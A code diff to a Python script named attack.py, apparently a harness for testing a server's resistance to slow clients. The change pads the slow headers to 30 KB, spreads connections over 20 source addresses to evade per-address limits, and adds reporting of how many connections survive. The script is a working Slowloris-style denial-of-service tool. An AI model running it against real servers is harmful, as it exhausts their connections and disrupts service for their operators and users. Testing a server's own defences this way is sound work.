@@ -2,9 +2,10 @@
 
     python attack.py HOST SLOW IDLE
 
-Opens SLOW connections that send their headers a byte at a time and never end, and IDLE connections
-that send nothing, from 20 addresses, as limits for one address would end this too soon. Prints
-"open" when all are there; then, as JSON, how many were cut off and how long the last one lasted.
+Opens SLOW connections that send 30 KB of headers, then a byte at a time, and never end, and IDLE
+connections that send nothing, from 20 addresses, as limits for one address would end this too
+soon. Prints "open" when all are there; then, as JSON, how many were still there when a line was
+typed, how many were cut off, and how long the last one lasted.
 """
 
 import contextlib
@@ -21,7 +22,7 @@ from typing import cast
 PORT = 8080
 ADDRESSES = 20
 PATIENCE_SECONDS = 90
-BEGINNING = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
+BEGINNING = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"x" * 30_000
 
 GET_ADDRESS, SET_ADDRESS, GET_NETMASK, SET_NETMASK = 0x8915, 0x8916, 0x891B, 0x891C
 
@@ -45,12 +46,13 @@ def more_addresses() -> list[str]:
     return addresses
 
 
-def connect(host: str, sources: list[str], number: int) -> list[socket.socket]:
-    """Open connections, from each of our addresses in turn."""
+def connect(host: str, sources: list[str], number: int, words: bytes) -> list[socket.socket]:
+    """Open connections, from each of our addresses in turn, and say something by each."""
     connections = []
     for i in range(number):
         source = (sources[i % len(sources)], 0)
         connections.append(socket.create_connection((host, PORT), 10, source))
+        connections[-1].sendall(words)
         connections[-1].setblocking(False)
     return connections
 
@@ -60,21 +62,25 @@ def main() -> None:
     host, slow, idle = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
     sources = more_addresses()
     started = time.monotonic()
-    slow_ones, idle_ones = connect(host, sources, slow), connect(host, sources, idle)
+    slow_ones = connect(host, sources, slow, BEGINNING)
     alive = selectors.DefaultSelector()
-    for attacker in (*slow_ones, *idle_ones):
+    for attacker in (*slow_ones, *connect(host, sources, idle, b"")):
         alive.register(attacker, selectors.EVENT_READ)
+    alive.register(sys.stdin, selectors.EVENT_READ)
     print("open", flush=True)
 
-    words, cut = BEGINNING, 0
-    while cut < slow + idle and time.monotonic() < started + PATIENCE_SECONDS:
+    cut, still_there = 0, None
+    while alive.get_map() and time.monotonic() < started + PATIENCE_SECONDS:
         for attacker in slow_ones:
             with contextlib.suppress(OSError):  # the selector finds out as well
-                attacker.send(words)
-        words = b"x"
+                attacker.send(b"x")
         next_byte = time.monotonic() + 1
-        while (wait_seconds := next_byte - time.monotonic()) > 0 and cut < slow + idle:
+        while (wait_seconds := next_byte - time.monotonic()) > 0 and alive.get_map():
             for key, _ in alive.select(wait_seconds):
+                if key.fd == sys.stdin.fileno():
+                    still_there = slow + idle - cut
+                    alive.unregister(sys.stdin)
+                    continue
                 attacker = cast(socket.socket, key.fileobj)
                 with contextlib.suppress(OSError):
                     if attacker.recv(1_000):
@@ -83,7 +89,7 @@ def main() -> None:
                 attacker.close()
                 cut += 1
     seconds = round(time.monotonic() - started, 1)
-    print(json.dumps({"opened": slow + idle, "cut": cut, "longest_seconds": seconds}))
+    print(json.dumps({"still_there": still_there, "cut": cut, "longest_seconds": seconds}))
 
 
 main()
